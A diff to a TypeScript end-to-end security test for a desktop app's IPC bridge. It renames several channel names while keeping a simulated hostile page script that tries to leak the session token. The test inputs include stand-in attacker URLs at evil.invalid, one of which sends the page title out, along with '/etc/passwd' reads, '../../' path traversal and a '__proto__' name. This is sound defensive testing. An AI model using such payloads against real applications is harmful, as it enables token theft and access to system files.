@@ -75,17 +75,17 @@ const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hos
   const inputs: Record<string, readonly unknown[]> = {
     'api:call': ['auth.login', 'auth.logout', 'auth.createTicket', 'auth.redeemTicket', 'auth.register', '__proto__', 'account.me'].map((name) => ({ name, input: { body: { url: server } } })),
     'session:sign-in': [{ account: 'a@b.cd', passwordDigest: 'a'.repeat(64) }], 'session:sign-up': [{ email: 'a@b.cd', name: 'a', passwordDigest: 'a'.repeat(64) }],
-    'servers:choose': [{ address: 'https://evil.invalid' }, { address: server }], 'servers:trust': [{ server, fingerprint }], 'servers:ask-trust': [{ address: server }, { address: 'https://evil.invalid' }],
-    'servers:distrust': [], 'network:set-proxy': [proxy, { mode: 'pac', url: `http://127.0.0.1:${proxyPort}/proxy.pac` }],
+    'servers:choose': [{ address: 'https://evil.invalid' }, { address: server }], 'servers:trust': [{ server, fingerprint }], 'servers:prompt-trust': [{ address: server }, { address: 'https://evil.invalid' }],
+    'servers:revoke-trust': [], 'network:set-proxy': [proxy, { mode: 'pac', url: `http://127.0.0.1:${proxyPort}/proxy.pac` }],
     'network:answer': [{ id: '1', login: { name: 'a', password: 'b' } }],
     'files:upload-dropped': [...files.map((each) => ({ files: each, folder: 'Desktop' })), { drop: 't', proofs: [''], folder: 'Desktop' }],
     'files:challenge': [{ paths: [secretPath] }], 'files:upload-paths': files.map((each) => ({ files: each, folder: 'Desktop' })),
     'desktop-settings:set': [{ downloads: { folder: '/' } }], 'window:open-external': [{ url: `https://evil.invalid/?${document.title}` }, { url: 'mailto:a@evil.invalid' }],
-    'links:open': [{ address: 'https://evil.invalid/' }], 'links:answer': [{ id: '1', agrees: true }], 'downloads:open-outside': [{ guid: 'x', name: '/etc/passwd' }],
+    'links:open': [{ address: 'https://evil.invalid/' }], 'links:decide': [{ id: '1', agrees: true }], 'downloads:open-externally': [{ guid: 'x', name: '/etc/passwd' }],
     'downloads:drag-file-out': [{ guid: '../../x', name: '/etc/passwd' }], 'downloads:open': [{ id: '/etc/passwd' }], 'downloads:show-in-folder': [{ id: '/etc/passwd' }],
   };
   /** Calls that end the page, close its account or open a system dialog, which needs a person. */
-  const apart = ['window:close', 'window:print', 'window:popup-menu', 'windows:open', 'session:sign-out', 'accounts:sign-out', 'accounts:remove', 'accounts:add', 'accounts:switch', 'updates:restart',
+  const apart = ['window:close', 'window:print', 'window:open-menu', 'windows:open', 'session:sign-out', 'accounts:sign-out', 'accounts:remove', 'accounts:add', 'accounts:switch', 'updates:restart',
     'files:choose-and-upload', 'files:save', 'files:save-text', 'downloads:choose-folder', 'diagnostics:export', 'window:minimize', 'window:toggle-maximize'];
   const outcome: Record<string, string> = {};
   const within = (answer: Promise<unknown>): Promise<unknown> => Promise.race([answer, new Promise((resolve) => { setTimeout(() => { resolve('no answer'); }, 3000); })]);
@@ -170,7 +170,7 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
       // The activation of an earlier click has expired; the attacker does not wait.
       await page.evaluate(() => window.deckle?.invoke['network:sign-in']());
       const outcome = await page.evaluate(attack, hostile);
-      for (const name of ['servers:choose', 'network:set-proxy', 'session:sign-in', 'session:sign-up', 'window:open-external', 'links:answer', 'desktop-settings:set', 'downloads:open-outside']) {
+      for (const name of ['servers:choose', 'network:set-proxy', 'session:sign-in', 'session:sign-up', 'window:open-external', 'links:decide', 'desktop-settings:set', 'downloads:open-externally']) {
         expect(JSON.parse(outcome[name] ?? 'null'), name).toMatchObject({ ok: false });
       }
       expect(questions()).toEqual([]);
@@ -220,7 +220,7 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
       for (const question of questions()) await clickDecision(question, 'decline');
       await create(page, 'folder', 'Behind the stranger');
       await expect(row(page, 'Behind the stranger')).toBeVisible();
-      expect(await page.evaluate(() => window.deckle?.invoke['network:obstacle']())).toMatchObject({ data: { kind: 'certificate', isChanged: true } });
+      expect(await page.evaluate(() => window.deckle?.invoke['network:problem']())).toMatchObject({ data: { kind: 'certificate', isChanged: true } });
       expect(stranger.heard()).not.toContain('authorization');
       expect(stranger.heard()).not.toContain(token);
     });
